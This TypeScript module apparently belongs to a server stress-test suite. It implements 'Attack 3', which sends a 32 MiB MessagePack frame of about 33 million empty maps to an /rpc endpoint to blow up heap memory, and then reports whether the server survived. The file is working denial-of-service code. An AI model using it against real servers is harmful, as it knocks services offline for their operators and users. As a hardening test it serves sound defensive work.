/**
 * Attack 3: one frame of the largest size the server accepts (32 MiB), an array of one-byte
 * empty maps: 33 million objects from 32 MiB, about 64 bytes of heap per byte sent.
 */
import { drained, openRaw } from '../wire.js';
import type { AttackResult } from './types.js';

const FRAME_BYTES = 32 * 1024 * 1024;

export async function emptyMaps(base: string): Promise<AttackResult> {
  const count = FRAME_BYTES - 5;
  const frame = new Uint8Array(FRAME_BYTES).fill(0x80); // fixmap of 0 entries
  frame.set([0xdd, count >>> 24, (count >>> 16) & 0xff, (count >>> 8) & 0xff, count & 0xff]);
  const socket = await openRaw(`${base}/rpc`);
  socket.sendBytes(frame);
  const outcome = await drained(socket);
  await socket.destroy();
  return { outcome, detail: { bytes: FRAME_BYTES, maps: count } };
}
